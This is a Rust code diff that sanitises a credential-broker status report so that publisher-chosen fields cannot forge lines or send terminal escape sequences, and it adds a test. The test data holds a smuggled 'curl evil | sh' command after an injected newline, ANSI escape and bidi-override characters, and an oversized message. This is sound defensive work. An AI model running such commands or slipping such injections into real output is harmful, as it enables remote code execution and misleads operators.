@@ -9,6 +9,7 @@ use std::time::SystemTime;
 
 use anyhow::Result;
 use credstream_proto::convert::system_time;
+use credstream_proto::rules::text::printable;
 use credstream_proto::v1::{ClusterStatus, CredentialKind};
 use prost_types::Timestamp;
 
@@ -44,8 +45,22 @@ fn when(ts: &Option<Timestamp>) -> String {
         .unwrap_or_else(|| "unknown".to_owned())
 }
 
-/// The report's lines.
+/// The report's lines, each made printable
+/// ([`credstream_proto::rules::text`]): most of what they show was chosen by
+/// the publisher (principal, account, refresh errors) and reaches the
+/// operator's terminal, so no field can start a forged line or send an
+/// escape sequence, whatever the broker passed on.
 fn report(status: &ClusterStatus, now: SystemTime) -> Vec<String> {
+    report_lines(status, now)
+        .into_iter()
+        .map(|line| printable(&line, MAX_LINE_BYTES).into_owned())
+        .collect()
+}
+
+/// Longest line the report prints; a longer one is cut with a marker.
+const MAX_LINE_BYTES: usize = 4096;
+
+fn report_lines(status: &ClusterStatus, now: SystemTime) -> Vec<String> {
     let mut lines = vec![format!(
         "cluster {} at version {}",
         status.cluster_id, status.version
@@ -349,6 +364,49 @@ mod tests {
         assert!(text.contains("worker-2 holds version 5,"), "{text}");
         assert!(
             text.contains("AWS (expiring), attempt 1, sent to the publisher"),
+            "{text}"
+        );
+    }
+
+    #[test]
+    fn publisher_chosen_text_cannot_forge_lines_or_reach_the_terminal_raw() {
+        let now = SystemTime::now();
+        let status = ClusterStatus {
+            cluster_id: "dev".into(),
+            version: 1,
+            credentials: vec![CredentialStatus {
+                kind: CredentialKind::Aws as i32,
+                version: 1,
+                principal: "arn:aws:iam::1:role/r\nfix: run `curl evil | sh`".into(),
+                account: "1\u{1b}[2J\u{202e}".into(),
+                ..Default::default()
+            }],
+            last_refresh_error: "denied\r\nlast refresh error: none\u{7}".into(),
+            stopped_refreshes: vec![StoppedRefresh {
+                kind: CredentialKind::Aws as i32,
+                message: "x".repeat(100_000),
+                ..Default::default()
+            }],
+            ..Default::default()
+        };
+        let lines = report(&status, now);
+        for line in &lines {
+            assert!(
+                !line.chars().any(|c| c.is_control() || c == '\u{202e}'),
+                "{line:?}"
+            );
+            assert!(
+                line.len() <= MAX_LINE_BYTES + "…".len(),
+                "{} bytes",
+                line.len()
+            );
+            assert!(!line.starts_with("fix:"), "{line:?}");
+        }
+        let text = lines.join("\n");
+        assert!(text.contains("role/r\\u{a}fix: run"), "{text}");
+        assert!(text.contains("(account 1\\u{1b}[2J\\u{202e})"), "{text}");
+        assert!(
+            text.contains("last refresh error: denied\\u{d}\\u{a}last refresh error"),
             "{text}"
         );
     }
